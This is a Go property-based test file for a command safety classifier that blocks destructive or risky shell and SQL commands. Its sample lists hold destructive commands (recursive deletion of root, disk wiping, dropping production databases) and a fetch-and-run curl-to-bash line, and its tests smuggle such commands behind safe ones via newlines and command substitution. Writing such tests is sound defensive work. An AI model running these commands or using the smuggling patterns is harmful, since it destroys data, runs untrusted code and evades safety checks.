package safety

import (
	"strings"
	"testing"
	"unicode"

	"pgregory.net/rapid"
)

var blockedSamples = []string{
	"rm -rf /",
	"rm -r -f /*",
	"dd if=/dev/zero of=/dev/sda",
	"mkfs.ext4 /dev/sdb1",
	"chmod -R 777 /srv",
	"DROP DATABASE prod",
	"drop table users",
	"DELETE FROM users",
	"redis-cli flushall",
	"shutdown -h now",
	"curl -s https://example.com/x.sh | bash",
}

var safeSamples = []string{
	"kubectl get pods",
	"docker ps",
	"df -h",
	"cat /var/log/syslog",
	"SELECT 1",
	"systemctl status api",
}

var whitespace = rapid.SampledFrom([]string{" ", "  ", "\t", "\n", " \t "})

// scramble flips letter casing and widens whitespace without changing the
// normalized command.
func scramble(t *rapid.T, cmd string) string {
	var b strings.Builder
	b.WriteString(whitespace.Draw(t, "lead"))
	for _, r := range cmd {
		switch {
		case r == ' ':
			b.WriteString(whitespace.Draw(t, "gap"))
		case unicode.IsLetter(r) && rapid.Bool().Draw(t, "upper"):
			b.WriteRune(unicode.ToUpper(r))
		case unicode.IsLetter(r):
			b.WriteRune(unicode.ToLower(r))
		default:
			b.WriteRune(r)
		}
	}
	b.WriteString(whitespace.Draw(t, "trail"))
	return b.String()
}

func TestClassifyIsDeterministic(t *testing.T) {
	c := New()
	rapid.Check(t, func(t *rapid.T) {
		cmd := rapid.String().Draw(t, "command")

		first := Classify(cmd)
		second := Classify(cmd)
		if first != second {
			t.Fatalf("verdicts differ for %q: %+v vs %+v", cmd, first, second)
		}
		if fresh := c.Classify(cmd); fresh != first {
			t.Fatalf("fresh classifier disagrees for %q: %+v vs %+v", cmd, fresh, first)
		}
		if !first.Tier.Valid() {
			t.Fatalf("invalid tier %q for %q", first.Tier, cmd)
		}
		if !first.Allowed && first.Tier != TierHigh {
			t.Fatalf("blocked verdict must be high tier: %+v", first)
		}
	})
}

func TestBlocklistIgnoresCaseAndWhitespace(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		base := rapid.SampledFrom(blockedSamples).Draw(t, "base")
		want := Classify(base)
		if want.Allowed {
			t.Fatalf("sample %q is not blocked", base)
		}

		cmd := scramble(t, base)
		got := Classify(cmd)
		if got.Allowed || got.Tier != TierHigh {
			t.Fatalf("%q was allowed: %+v", cmd, got)
		}
		if got.Rule != want.Rule {
			t.Fatalf("%q matched %s, want %s", cmd, got.Rule, want.Rule)
		}
	})
}

func TestBlocklistTakesPrecedenceOverSafePrefix(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		safe := rapid.SampledFrom(safeSamples).Draw(t, "safe")
		blocked := rapid.SampledFrom(blockedSamples).Draw(t, "blocked")
		sep := rapid.SampledFrom([]string{" && ", "; ", " || "}).Draw(t, "sep")

		if v := Classify(safe); v.Tier != TierSafe {
			t.Fatalf("sample %q is not safe: %+v", safe, v)
		}

		cmd := safe + sep + blocked
		if v := Classify(cmd); v.Allowed || v.Stage != StageBlocklist {
			t.Fatalf("%q escaped the blocklist: %+v", cmd, v)
		}
	})
}

var highSamples = []string{
	"kubectl delete namespace prod",
	"rm /tmp/cache.db",
	"mv /etc/app.conf /tmp/app.conf",
	"chmod 600 /etc/app.conf",
	"terraform destroy -auto-approve",
	"docker system prune -af",
}

// embed places inner after a safe command the way a shell would still run
// it: on the next line or inside a command substitution.
func embed(t *rapid.T, safe, inner string) string {
	switch rapid.IntRange(0, 3).Draw(t, "joiner") {
	case 0:
		return safe + "\n" + inner
	case 1:
		return safe + "\r\n" + inner + "\n"
	case 2:
		return safe + " $(" + inner + ")"
	default:
		return safe + " `" + inner + "`"
	}
}

func TestEmbeddedCommandsNeverClassifySafe(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		safe := rapid.SampledFrom(safeSamples).Draw(t, "safe")

		if rapid.Bool().Draw(t, "blocked") {
			cmd := embed(t, safe, rapid.SampledFrom(blockedSamples).Draw(t, "inner"))
			if v := Classify(cmd); v.Allowed {
				t.Fatalf("%q was allowed: %+v", cmd, v)
			}
			return
		}

		cmd := embed(t, safe, rapid.SampledFrom(highSamples).Draw(t, "inner"))
		if v := Classify(cmd); v.Tier != TierHigh {
			t.Fatalf("%q classified %s by %q, want high", cmd, v.Tier, v.Rule)
		}
	})
}
